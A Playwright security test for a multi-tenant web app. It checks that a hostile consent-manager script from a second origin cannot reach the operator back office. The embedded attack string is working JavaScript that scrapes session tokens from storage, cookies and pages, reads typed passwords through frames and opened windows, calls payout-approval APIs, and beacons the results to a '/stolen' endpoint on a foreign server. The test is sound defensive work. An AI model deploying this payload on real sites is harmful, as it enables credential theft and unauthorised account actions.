import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext } from '@playwright/test'
import { expect, test } from '../secrets/browser-fixtures.ts'
import { demoClient } from '../support/demo-client.ts'
import { untilStarted } from '../support/stand-still.ts'

/**
 * An operator's consent manager as an attacker of another operator's browser: a real script from a second origin, which
 * runs on the tenant's public pages, tries to act in the back office and to read input there.
 */
const attack = (home: string) => String.raw`
window.__attacks = (window.__attacks ?? 0) + 1
const tell = (what) => navigator.sendBeacon(${JSON.stringify(home)} + '/stolen', what)
const act = async (token) => {
  const headers = { 'X-Requested-With': 'x', ...(token === undefined ? {} : { Authorization: 'Bearer ' + token }) }
  const api = location.origin + '/api/v1/fernblick/betreiber/'
  for (const path of ['auszahlungen', 'einstellungen']) {
    const answer = await fetch(api + path, { headers, credentials: 'include' })
    if (answer.ok) tell('acted: ' + path)
  }
  const approved = await fetch(api + 'auszahlungen/' + window.__batch + '/approve', { method: 'POST', headers })
  if (approved.ok) tell('approved')
}
// Read from the storage and the cookies of the browser, and act with it.
const tokens = () => [...Object.values({ ...localStorage }), ...Object.values({ ...sessionStorage }), document.cookie]
  .flatMap((text) => text.match(/s1\.\d{10}\.[\w-]{43}/g) ?? [])
setInterval(() => { for (const token of new Set([undefined, ...tokens()])) void act(token) }, 700)
// The page's own data, as the server answers it.
for (const path of ['/de/betreiber', '/de/betreiber/auszahlungen'])
  fetch(path, { credentials: 'include' }).then((answer) => answer.text()).then((text) => {
    for (const token of text.match(/s1\.\d{10}\.[\w-]{43}/g) ?? []) { tell('read: ' + path); void act(token) }
  })
// The page itself, in a frame and in a separate window.
const look = (which, page) => setInterval(() => {
  try {
    if (page().document.querySelector('main') !== null) tell('reached: ' + which)
    for (const field of page().document.querySelectorAll('input')) if (field.value !== '') tell('typed: ' + field.value)
  } catch {}
}, 200)
window.__open = () => {
  for (const path of ['/de/betreiber/login', '/de/betreiber', '/de/login']) {
    const opened = window.open(path)
    look('window ' + path, () => opened)
  }
}
const frame = document.createElement('iframe')
frame.src = '/de/betreiber/login'
document.body.append(frame)
look('frame', () => frame.contentWindow)
navigator.serviceWorker?.register('/embed.js').then(() => tell('worker'), () => undefined)
`

test('a script of a second origin reaches no back office and no password', async ({
  server,
  admin,
  browser,
  contextOptions,
}) => {
  const stolen: string[] = []
  let fetched = 0
  const foreign = createServer((request, answer) => {
    answer.setHeader('access-control-allow-origin', '*')
    if (request.url === '/stolen') request.on('data', (data) => stolen.push(String(data)))
    if (request.url === '/manager.js') fetched += 1
    answer
      .setHeader('content-type', 'text/javascript')
      .end(request.url === '/manager.js' ? attack(`http://${request.headers.host}`) : '')
  }).listen(0)
  await once(foreign, 'listening')
  const home = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
  await admin.query(
    `UPDATE tenant SET config = config || jsonb_build_object('consent', $1::jsonb), content_version = content_version + 1 WHERE id = 1`,
    [{ provider: 'tcf', script: `${home}/manager.js`, needsMarkup: true }],
  )
  const origin = server.origin('fernblick')
  const demo = demoClient(server, 'fernblick')
  const batch = await demo.operatorId('auszahlungen')
  const context: BrowserContext = await browser.newContext(contextOptions)
  try {
    await context.addInitScript({ content: `window.__batch = ${JSON.stringify(batch)}` })
    const page = await context.newPage()
    await expect
      .poll(async () => (await page.request.get(`${origin}/de`)).text(), { timeout: 15_000 })
      .toContain('manager.js')
    await page.goto(`${origin}/de`)
    // It really runs there, before any login, and for as long as the page is open.
    await expect.poll(() => page.evaluate('window.__attacks')).toBe(1)
    const windows = [context.waitForEvent('page'), page.evaluate('window.__open()')]
    await Promise.all(windows)

    const desk = await context.newPage()
    await desk.goto(`${origin}/de/betreiber/login`)
    // Sent before its scripts are there, the form would be asked for again.
    await untilStarted(desk)
    await desk.getByRole('textbox', { name: 'E-Mail', exact: true }).fill('betreiber2@demo.example')
    await desk.getByLabel('Passwort', { exact: true }).fill('Empfehlen1')
    await desk.getByRole('button', { name: 'Anmelden', exact: true }).click()
    await expect(desk).toHaveURL(/\/de\/betreiber$/)
    // The same by a window that the script opened itself.
    const opened = context.pages().find((one) => /\/de\/login/.test(one.url()))!
    await opened.getByLabel('Passwort', { exact: true }).fill('Empfehlen1')
    // A reload brings the session back, to this page alone.
    await desk.reload()
    await expect(desk.getByRole('heading', { level: 1 })).toBeVisible()
    await expect(desk).toHaveURL(/\/de\/betreiber$/)
    await page.waitForTimeout(3_000)
    expect(stolen).toEqual([])
    expect(await desk.evaluate('window.__attacks')).toBeUndefined()

    // From the page with the script into the login: another document, in which nothing of it runs.
    await page.evaluate(`document.querySelector('a[href="/de/login"]').click()`)
    await expect(page).toHaveURL(/\/de\/login/)
    expect(await page.evaluate('window.__attacks')).toBeUndefined()
    // And from the back office to a public page of the same browser: there it is not even asked for.
    const before = fetched
    const other = await context.newPage()
    await other.goto(`${origin}/de`)
    await other.waitForLoadState('networkidle')
    expect(await other.evaluate('window.__attacks')).toBeUndefined()
    expect(fetched).toBe(before)
    expect(stolen).toEqual([])
  } finally {
    await context.close()
    foreign.close()
    await admin.query(
      `UPDATE tenant SET config = config - 'consent', content_version = content_version + 1 WHERE id = 1`,
    )
  }
})
